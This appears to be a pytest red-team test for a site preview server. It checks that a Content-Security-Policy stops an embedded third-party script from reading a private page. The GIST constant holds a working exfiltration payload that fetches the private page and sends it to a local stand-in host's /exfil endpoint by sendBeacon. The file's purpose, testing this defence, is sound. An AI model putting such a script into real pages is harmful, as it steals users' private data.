"""Red team 4, J1: a note's ``<script src>`` embed from another host must not run
with the preview's origin (where it could fetch every private page with the key
cookie and send it away): the preview's Content-Security-Policy keeps scripts,
connections, frames and forms to its own origin. Driven in Debian's chromium."""

from __future__ import annotations

import contextlib
import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_serve import CANARY_TITLE, fetch, make_site, open_in, serving, wait_until

from ivsite.preview import http as preview_http

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not os.access("/usr/bin/chromium", os.X_OK),
                       reason="needs Debian's /usr/bin/chromium"),
]

PRIVATE = "/reflections/2026-07-05-salary-reality-check/"
GIST = ("fetch(%r).then(r=>r.text()).then(t=>navigator.sendBeacon("
        "'http://127.0.0.1:{port}/exfil', t));document.title='third party ran';")


@contextlib.contextmanager
def third_party() -> Iterator[tuple[int, list[str]]]:
    """Another host (another port of 127.0.0.1): it serves gist.js and keeps what
    is sent to /exfil."""
    received: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            body = (GIST % PRIVATE).replace("{port}", str(self.server.server_port)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length") or 0)
            received.append(self.rfile.read(n).decode("utf-8", "replace"))
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port, received
    finally:
        server.shutdown()
        server.server_close()


def embed_page(root: Path, port: int) -> None:
    (root / "content/pages/embed.md").write_text(
        "---\ntitle: A snippet I liked\n---\nHere is the gist:\n\n"
        f'<script src="http://127.0.0.1:{port}/gist.js"></script>\n', "utf-8")


def visit(page: Any, tmp_path: Path) -> tuple[str, list[str]]:
    """Open the embed page in the private preview; the page's title and what the
    other host received."""
    root = make_site(tmp_path)
    with third_party() as (port, received), serving(root) as srv:
        embed_page(root, port)
        assert srv.wait_idle(settle=0.5)
        open_in(page, srv, "embed/")
        page.wait_for_load_state("networkidle")
        with contextlib.suppress(AssertionError):
            wait_until(lambda: bool(received), timeout=3.0)
        return page.title(), received


def test_the_preview_sends_its_policy_on_every_answer(tmp_path: Path) -> None:
    with serving(make_site(tmp_path)) as srv:
        for path in ("/", PRIVATE, "/style.css", "/__ivsite/reload.js", "/no-such/"):
            _, _, headers = fetch(srv, path)
            csp = headers.get("content-security-policy", "")
            assert "script-src 'self'" in csp and "connect-src 'self'" in csp, (path, csp)
            assert "base-uri 'none'" in csp and "form-action 'self'" in csp


def test_a_third_party_script_does_not_run_in_the_preview(tmp_path: Path, page: Any) -> None:
    title, received = visit(page, tmp_path)
    assert title != "third party ran"
    assert received == []


def test_without_the_policy_the_script_sends_a_private_page_away(
        tmp_path: Path, page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    headers = dict(preview_http.SECURITY_HEADERS)
    del headers["Content-Security-Policy"]
    monkeypatch.setattr(preview_http, "SECURITY_HEADERS", headers)
    title, received = visit(page, tmp_path)
    assert title == "third party ran"
    assert any(CANARY_TITLE in r for r in received), received
